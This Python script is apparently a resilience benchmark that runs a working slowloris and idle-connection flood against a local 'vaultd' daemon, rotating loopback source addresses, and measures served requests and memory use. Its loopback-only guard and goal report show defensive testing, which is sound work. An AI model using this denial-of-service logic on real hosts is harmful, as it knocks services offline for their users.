#!/usr/bin/env python3
"""slowloris.py: the connection-exhaustion goal of issue 14, on loopback only.

    slowloris.py --port PORT --ca CA.crt --bearer-file F --pid VAULTD_PID \
                 [--loris 1000] [--flood 1000] [--sources 50] \
                 [--seconds 10] [--trickle 3] [--goals FILE]

Against vaultd's TCP+TLS listener on 127.0.0.1:PORT it runs, from one
asyncio loop in this process:

  * --loris connections, each completing the TLS handshake and then sending
    an HTTP request head one byte every --trickle seconds (never finishing);
  * --flood connections that connect (TCP only, no TLS byte) and stay idle;

each reconnecting --reconnect-delay seconds after vaultd closes it. The
attackers bind to source addresses 127.0.0.2 .. 127.0.0.(1+--sources), round
robin, so that a per-address cap alone does not stop them; the legitimate
client binds to 127.0.0.1. Only 127.0.0.0/8 is ever a target or a source.

The legitimate client runs in a child process (its own event loop, so the
attackers' loop does not delay it): signing requests on bench-p256
(POST /v1/keys/bench-p256/sign), one every 20 ms on one keep-alive
connection and one every 20 ms each on a fresh TLS connection, for
--seconds, first without the attack (the baseline), then under it. A
request counts as served when a 200 with signature_b64 comes back within 5 s
(connecting included). vaultd's VmRSS is sampled every 0.25 s: idle before
the attack, the maximum under it, idle again 3 s after it.

Prints a report, and with --goals appends the goal lines
("goal|figure|baseline|ratio|target|met?") that bench.sh prints.
"""
import argparse
import asyncio
import base64
import json
import os
import resource
import ssl
import subprocess
import sys
import time

REQ_TIMEOUT = 5.0
PAUSE = 0.02


def rss_mib(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) / 1024.0
    except OSError:
        pass
    return float("nan")


def pct(v, q):
    if not v:
        return float("nan")
    v = sorted(v)
    return v[int((len(v) - 1) * q)]


def tls_ctx(ca):
    ctx = ssl.create_default_context(cafile=ca)
    ctx.check_hostname = False  # the bench certificate names 127.0.0.1 only by IP
    return ctx


# ---- the legitimate client (child process) ----

async def read_reply(reader):
    head = await reader.readuntil(b"\r\n\r\n")
    status = int(head.split(b" ", 2)[1])
    length = 0
    close = False
    for line in head.split(b"\r\n")[1:]:
        k, _, v = line.partition(b":")
        k = k.strip().lower()
        if k == b"content-length":
            length = int(v.strip())
        elif k == b"connection" and v.strip().lower() == b"close":
            close = True
    body = await reader.readexactly(length) if length else b""
    return status, body, close


async def legit(args, fresh, deadline, out):
    ctx = tls_ctx(args.ca)
    bearer = open(args.bearer_file).read().strip()
    body = json.dumps({"input_b64": base64.b64encode(b"slowloris legitimate client").decode()})
    req = (f"POST /v1/keys/{args.key}/sign HTTP/1.1\r\nHost: vaultd\r\n"
           f"Authorization: Bearer {bearer}\r\nContent-Type: application/json\r\n"
           f"Content-Length: {len(body)}\r\n\r\n{body}").encode()
    conn = None
    while time.monotonic() < deadline:
        t0 = time.monotonic()
        ok = False
        try:
            async def once():
                nonlocal conn
                if conn is None:
                    conn = await asyncio.open_connection(args.host, args.port, ssl=ctx,
                                                         local_addr=("127.0.0.1", 0))
                r, w = conn
                w.write(req)
                await w.drain()
                status, rbody, close = await read_reply(r)
                if close or fresh:
                    w.close()
                    conn = None
                return status == 200 and b"signature_b64" in rbody
            ok = await asyncio.wait_for(once(), REQ_TIMEOUT)
        except (OSError, asyncio.TimeoutError, asyncio.IncompleteReadError, ssl.SSLError,
                ValueError, IndexError):
            ok = False
        if not ok and conn is not None:
            conn[1].close()
            conn = None
        dt = time.monotonic() - t0
        out["attempts"] += 1
        if ok:
            out["served"] += 1
            out["lat_ms"].append(dt * 1000)
        await asyncio.sleep(PAUSE)


async def client_main(args):
    deadline = time.monotonic() + args.seconds
    res = {m: {"attempts": 0, "served": 0, "lat_ms": []} for m in ("keepalive", "fresh")}
    await asyncio.gather(legit(args, False, deadline, res["keepalive"]),
                         legit(args, True, deadline, res["fresh"]))
    for m in res.values():
        lat = m.pop("lat_ms")
        m["p50_ms"] = pct(lat, 0.5)
        m["p99_ms"] = pct(lat, 0.99)
    print(json.dumps(res))


# ---- the attack (this process) ----

class Attack:
    def __init__(self, args):
        self.args = args
        self.stop = False
        self.open = {"loris": 0, "flood": 0}
        self.closed = {"loris": 0, "flood": 0}
        self.failed = {"loris": 0, "flood": 0}
        self.ctx = tls_ctx(args.ca)

    def source(self, i):
        return f"127.0.0.{2 + i % self.args.sources}"

    async def loris(self, i):
        head = (f"POST /v1/keys/{self.args.key}/sign HTTP/1.1\r\nHost: vaultd\r\n"
                "X-Slow: " + "a" * 4000).encode()
        await asyncio.sleep(i * self.args.ramp / max(1, self.args.loris))
        while not self.stop:
            w = None
            try:
                r, w = await asyncio.wait_for(
                    asyncio.open_connection(self.args.host, self.args.port, ssl=self.ctx,
                                            local_addr=(self.source(i), 0)), 10)
                self.open["loris"] += 1
                try:
                    for b in head:
                        if self.stop:
                            break
                        w.write(bytes([b]))
                        await w.drain()
                        # vaultd closing shows as EOF on the read side
                        try:
                            d = await asyncio.wait_for(r.read(4096), self.args.trickle)
                            if not d:
                                break
                        except asyncio.TimeoutError:
                            pass
                finally:
                    self.open["loris"] -= 1
                    self.closed["loris"] += 1
            except (OSError, asyncio.TimeoutError, ssl.SSLError, asyncio.IncompleteReadError):
                self.failed["loris"] += 1
            finally:
                if w is not None:
                    w.close()
            await asyncio.sleep(self.args.reconnect_delay)

    async def flood(self, i):
        await asyncio.sleep(i * self.args.ramp / max(1, self.args.flood))
        while not self.stop:
            w = None
            try:
                r, w = await asyncio.wait_for(
                    asyncio.open_connection(self.args.host, self.args.port,
                                            local_addr=(self.source(i + 7), 0)), 10)
                self.open["flood"] += 1
                try:
                    while not self.stop:
                        try:
                            d = await asyncio.wait_for(r.read(4096), 1.0)
                            if not d:
                                break
                        except asyncio.TimeoutError:
                            pass
                finally:
                    self.open["flood"] -= 1
                    self.closed["flood"] += 1
            except (OSError, asyncio.TimeoutError):
                self.failed["flood"] += 1
            finally:
                if w is not None:
                    w.close()
            await asyncio.sleep(self.args.reconnect_delay)


async def run_client(args):
    p = await asyncio.create_subprocess_exec(
        sys.executable, os.path.abspath(__file__), "--client", "--host", args.host,
        "--port", str(args.port), "--ca", args.ca, "--bearer-file", args.bearer_file,
        "--key", args.key, "--seconds", str(args.seconds), stdout=subprocess.PIPE)
    out, _ = await p.communicate()
    if p.returncode != 0:
        raise SystemExit(f"slowloris.py: the legitimate client failed ({p.returncode})")
    return json.loads(out)


async def sample_rss(pid, until, peak):
    while not until.done():
        peak[0] = max(peak[0], rss_mib(pid))
        await asyncio.sleep(0.25)


async def main(args):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = args.loris + args.flood + 256
    if soft < need:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(need, soft), hard), hard))
    idle_before = rss_mib(args.pid)
    base = await run_client(args)
    idle_before = max(idle_before, rss_mib(args.pid))

    atk = Attack(args)
    tasks = [asyncio.create_task(atk.loris(i)) for i in range(args.loris)]
    tasks += [asyncio.create_task(atk.flood(i)) for i in range(args.flood)]
    peak = [0.0]
    ramp_done = asyncio.get_running_loop().create_future()
    sampler = asyncio.create_task(sample_rss(args.pid, ramp_done, peak))
    await asyncio.sleep(args.ramp + 1)
    held = dict(atk.open)
    under = await run_client(args)
    held_end = dict(atk.open)
    atk.stop = True
    ramp_done.set_result(None)
    await sampler
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    await asyncio.sleep(3)
    idle_after = rss_mib(args.pid)

    rep = {"baseline": base, "attack": under, "rss_idle_before_mib": idle_before,
           "rss_attack_max_mib": peak[0], "rss_idle_after_mib": idle_after,
           "attackers_open_at_start": held, "attackers_open_at_end": held_end,
           "attacker_closes": atk.closed, "attacker_connect_failures": atk.failed,
           "loris": args.loris, "flood": args.flood, "sources": args.sources}
    print(json.dumps(rep, indent=1))
    print(f"slow-loris: {args.loris} slow-loris (TLS, 1 byte / {args.trickle} s) + {args.flood} "
          f"idle TCP connections from {args.sources} loopback addresses, reconnecting "
          f"{args.reconnect_delay} s after a close; held open when the client started: {held}, "
          f"at its end: {held_end}; closed by vaultd: {atk.closed}")
    for m in ("keepalive", "fresh"):
        b, u = base[m], under[m]
        print(f"  {m:9s} baseline {b['served']}/{b['attempts']} p50 {b['p50_ms']:.1f} ms "
              f"p99 {b['p99_ms']:.1f} ms; under attack {u['served']}/{u['attempts']} "
              f"p50 {u['p50_ms']:.1f} ms p99 {u['p99_ms']:.1f} ms")
    print(f"  vaultd RSS: idle {idle_before:.1f} MiB, attack max {peak[0]:.1f} MiB, "
          f"idle after {idle_after:.1f} MiB")
    if args.goals:
        with open(args.goals, "a") as f:
            for m, label in (("keepalive", "keep-alive"), ("fresh", "fresh connections")):
                b, u = base[m], under[m]
                share = 100.0 * u["served"] / u["attempts"] if u["attempts"] else 0.0
                fig = (f"{share:.1f}% served ({u['served']}/{u['attempts']}), "
                       f"p50 {u['p50_ms']:.1f} ms, p99 {u['p99_ms']:.1f} ms")
                bl = (f"no attack {b['served']}/{b['attempts']}, p50 {b['p50_ms']:.1f} ms, "
                      f"p99 {b['p99_ms']:.1f} ms")
                met = share >= 99.0 and u["p99_ms"] == u["p99_ms"] and u["p99_ms"] <= 100
                f.write(f"slow-loris {args.loris} + idle flood {args.flood}: {label}|{fig}|{bl}|-|"
                        f">= 99%, p99 <= 100 ms|{'yes' if met else 'NO'}\n")
            f.write(f"vaultd RSS during the attack|{peak[0]:.1f} MiB|idle {idle_before:.1f} MiB|-|"
                    f"<= 64 MiB|{'yes' if peak[0] <= 64 else 'NO'}\n")
            idle = max(idle_before, idle_after)
            f.write(f"vaultd RSS idle|{idle:.1f} MiB (before {idle_before:.1f}, after {idle_after:.1f})|-|-|"
                    f"<= 16 MiB|{'yes' if idle <= 16 else 'NO'}\n")


def parse():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--client", action="store_true", help=argparse.SUPPRESS)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--ca", required=True)
    ap.add_argument("--bearer-file", required=True)
    ap.add_argument("--key", default="bench-p256")
    ap.add_argument("--pid", type=int)
    ap.add_argument("--loris", type=int, default=1000)
    ap.add_argument("--flood", type=int, default=1000)
    ap.add_argument("--sources", type=int, default=50)
    ap.add_argument("--seconds", type=float, default=10)
    ap.add_argument("--trickle", type=float, default=3)
    ap.add_argument("--ramp", type=float, default=3, help="seconds over which the attackers connect")
    ap.add_argument("--reconnect-delay", type=float, default=0.5)
    ap.add_argument("--goals")
    a = ap.parse_args()
    if not a.host.startswith("127.") or not (1 <= a.sources <= 250):
        ap.error("loopback only: --host 127.x.y.z, --sources 1..250")
    if not a.client and a.pid is None:
        ap.error("--pid is needed")
    if not (0 < a.seconds <= 600):
        ap.error("--seconds 0..600")
    return a


if __name__ == "__main__":
    A = parse()
    asyncio.run(client_main(A) if A.client else main(A))
